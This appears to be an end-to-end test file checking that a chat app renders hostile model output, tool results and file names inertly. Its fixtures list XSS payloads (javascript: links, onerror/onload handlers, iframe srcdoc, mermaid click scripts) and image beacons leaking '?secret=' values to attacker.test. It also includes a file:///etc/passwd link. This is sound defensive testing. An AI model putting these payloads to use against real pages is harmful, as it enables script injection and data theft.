/** Text of a model, a file or a command is untrusted: it sends no request and runs no code. */
import type { Page } from 'playwright';
import { describe, test } from 'vitest';
import { call, type Reply } from '../fixtures/scripted-openai.ts';
import { type App, startApp } from './app.ts';
import { sharedBrowser } from './browser.ts';
import { FOREIGN_ELEMENTS } from './in-page.ts';
import { approval, button, card, chat, composer, DONE, decide, done, expect, say, scrollUpTo } from './person.ts';

const browser = await sharedBrowser();

/** A script that sets a global variable, which shows that the injected code has run. */
const RUN = "window.__canary='ran'";

const LINKS = [
  `[run](javascript:${RUN})`,
  `[run](JaVaScRiPt:${RUN})`,
  `[run](java&#x73;cript:${RUN})`,
  '[run](  java\tscript:alert`1` )',
  `[run](data:text/html,<script>${RUN}</script>)`,
  `[run](vbscript:${RUN})`,
  '[open](smb://attacker.test/share)',
  '[open](ms-msdt:/id%20PCWDiagnostic)',
  '[open](file:///etc/passwd)',
  '[open](\\\\attacker.test\\share)',
  '[open][reference]',
  '<javascript:alert(1)>',
  '[reference]: search-ms:query=x',
];

const IMAGES = [
  '![one](https://attacker.test/a.png?secret=1)',
  '![two][leak]',
  '![leak]',
  '![][leak]',
  '![local](/rpc?secret=1)',
  '![relative](./elsewhere.png)',
  '![other](//attacker.test/b.png)',
  '![drawn](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9fY2FuYXJ5PTEiLz4=)',
  '[![inside](https://attacker.test/c.png)](https://attacker.test/d)',
  '',
  '[leak]: https://attacker.test/e.png?secret=2 "title"',
];

const HTML = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  '<img src="https://attacker.test/f.png">',
  `<svg onload="${RUN}"><image href="https://attacker.test/g.png"/></svg>`,
  '<iframe src="https://attacker.test/h"></iframe>',
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  '<link rel="stylesheet" href="https://attacker.test/i.css">',
  '<style>body{background:url(https://attacker.test/j.png)}</style>',
  '<form action="https://attacker.test/k"><button>Go</button></form>',
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  '<meta http-equiv="refresh" content="0;url=https://attacker.test/l">',
  '<base href="https://attacker.test/">',
  '<video poster="https://attacker.test/m.png" src="https://attacker.test/n.mp4" autoplay></video>',
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
];

const MATH = [
  '$\\href{javascript:window.__canary=1}{x}$',
  '$\\includegraphics{https://attacker.test/o.png}$',
  `$$\\htmlData{onload=${RUN}}{x}$$`,
  '$$\\url{https://attacker.test/p}$$',
];

const diagram = (lines: readonly string[]) => ['```mermaid', ...lines, '```'].join('\n');
const DIAGRAMS = [
  diagram([
    'graph TD',
    `A["<img src=x onerror=${RUN}>"] --> B["<script>${RUN}</script>"]`,
    `click A "javascript:${RUN}"`,
    'click B "https://attacker.test/q" _blank',
    'click B call alert()',
    'style A fill:url(https://attacker.test/r.png)',
  ]),
  diagram([
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "*{background:url(https://attacker.test/s.png)}"}}%%`,
    'graph TD',
    `A["<a href='javascript:${RUN}'>x</a><img src='https://attacker.test/t.png'/>"]`,
  ]),
];

const EVERYTHING = [...LINKS, ...IMAGES, ...HTML, ...MATH, ...DIAGRAMS].join('\n\n');

describe('hostile text', () => {
  test('in an answer sends no request and runs no code, while it streams and after it is stored (V10, V11, V12)', async () => {
    await using app = await hostile([{ text: `${EVERYTHING}\n\nThe end.`, pieceLength: 17, betweenMs: 1 }]);
    const page = await opened(app);
    await say(page, 'Say it');
    await expect(chat(page).getByText('The end.')).toBeVisible();
    await nothingHappened(app, page);
    await page.reload();
    await page.getByRole('navigation', { name: 'Topics' }).getByText('Say it').click();
    await expect(chat(page).getByText('The end.')).toBeVisible();
    await nothingHappened(app, page);
  });

  test('in a summary, in tool results, in file names and in live output is shown as plain text', async () => {
    const name = '<img src=x onerror=alert(1)>.md';
    await using app = await hostile(
      [
        {
          text: EVERYTHING,
          reasoning: EVERYTHING,
          calls: [
            { name: 'read_file', arguments: { path: 'evil.md' } },
            { name: 'run_command', arguments: { command: 'cat evil.md' } },
            { name: 'create_file', arguments: { path: name, content: EVERYTHING } },
            { name: `"><script>${RUN}</script>`, arguments: { path: `<svg onload="${RUN}">` } },
          ],
        },
        call(DONE, { result: EVERYTHING, command: `echo '<img src=x onerror="${RUN}">'` }),
      ],
      { 'evil.md': EVERYTHING },
    );
    const page = await opened(app);
    await say(page, EVERYTHING.slice(0, 400));
    for (const text of ['cat evil.md', name]) {
      await expect(approval(page)).toContainText(text);
      await nothingHappened(app, page);
      await decide(page, /^Allow once/);
    }
    await expect(done(page)).toBeVisible();
    // The page holds only what is near the visible part, so each card is scrolled to and opened there.
    for (const shown of [/script/, /alert\(1\)/, /cat evil\.md/, /^(?!.*cat).*evil\.md/]) {
      const heading = card(page, shown).locator('button[aria-expanded]').first();
      await scrollUpTo(page, heading);
      if ((await heading.getAttribute('aria-expanded')) === 'false') await heading.click();
      await expect(heading).toHaveAttribute('aria-expanded', 'true');
      await nothingHappened(app, page);
    }
    await chat(page).press('End');
    await button(done(page), 'Run…').click();
    await expect(page.getByRole('dialog', { name: 'Run this command?' })).toContainText('onerror');
    await nothingHappened(app, page);
  });

  test('keeps only web and mail links, and a remote picture is replaced by its name', async () => {
    const good = [
      '[site](https://example.test/a)',
      '[mail](mailto:a@example.test)',
      '![chart](https://attacker.test/x.png)',
    ];
    await using app = await hostile([{ text: [...LINKS, ...good, 'The end.'].join('\n\n') }]);
    const page = await opened(app);
    await say(page, 'Say it');
    await expect(chat(page).getByText('The end.')).toBeVisible();
    const links = await chat(page)
      .getByRole('link')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links).toEqual(['https://example.test/a', 'mailto:a@example.test', 'https://attacker.test/x.png']);
    await expect(chat(page).getByText('Image “chart” from attacker.test')).toBeVisible();
    for (const text of ['run', 'open']) {
      for (const place of await chat(page).getByText(text, { exact: true }).all()) await place.click();
    }
    await nothingHappened(app, page);
  });
});

/**
 * Mermaid parses a label of the diagram inside a frame, whose content security policy blocks the
 * event handlers. The page itself contains no such attribute.
 */
const BLOCKED_IN_FRAME = /Executing inline event handler violates .* The action has been blocked/;

/** Starts an app with the terminal server switched on, whose model sends the given replies. */
const hostile = (script: readonly Reply[], files = {}): Promise<App> =>
  startApp(browser, { script, files, settings: { serverSwitches: { '@aether/terminal': true } } });

async function opened(app: App): Promise<Page> {
  const { page } = await app.open({ expected: [BLOCKED_IN_FRAME] });
  page.on('dialog', (dialog) => {
    void dialog.dismiss();
    throw new Error(`A dialog came up: ${dialog.message()}`);
  });
  await expect(composer(page)).toBeVisible();
  return page;
}

/**
 * Checks that no request left the origin of the app (`app.problems` lists such requests), no page
 * was opened, no injected code ran, and the page contains no injected element.
 */
async function nothingHappened(app: App, page: Page): Promise<void> {
  // Waits until the diagram is drawn or replaced by its source, which takes a moment.
  const diagrams = chat(page).locator('iframe');
  const drawn = async () =>
    Promise.all((await diagrams.all()).map((diagram) => diagram.contentFrame().locator('svg').count()));
  await expect.poll(async () => (await drawn()).every((count) => count > 0)).toBe(true);
  for (const frame of page.frames()) {
    expect(await frame.evaluate("'__canary' in window").catch(() => false)).toBe(false);
  }
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(FOREIGN_ELEMENTS)).toEqual([]);
  expect(app.problems).toEqual([]);
}
